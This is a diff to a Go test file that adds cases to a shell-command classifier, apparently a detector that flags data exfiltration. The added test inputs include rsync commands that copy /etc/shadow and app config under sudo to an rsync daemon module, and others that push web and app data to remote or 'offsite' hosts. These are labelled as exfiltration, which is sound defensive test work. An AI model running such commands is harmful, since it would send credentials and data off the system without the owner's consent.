@@ -13,6 +13,12 @@ func TestClassify(t *testing.T) {
 		want cmdClass
 	}{
 		{"id 2>&1", classNone},
+		// rsync to a daemon's module or another host sends data out; a
+		// local copy or a fetch does not
+		{"/usr/bin/sudo -n /usr/bin/rsync -a /etc/shadow /srv/app/conf rsync://127.0.0.1:8730/drop/desk/", classExfilImpact},
+		{"rsync -az /var/www/ backup@192.0.2.4:/srv/backups/www/", classExfilImpact},
+		{"rsync -a /srv/app/data/ offsite::drop", classExfilImpact},
+		{"rsync -a /srv/app/data/ /var/backups/app/", classNone},
 		{"uname -a", classNone},
 		{"cat /etc/passwd 2>&1", classNone},
 		{"pwd; ls -la /var/www/html", classNone},
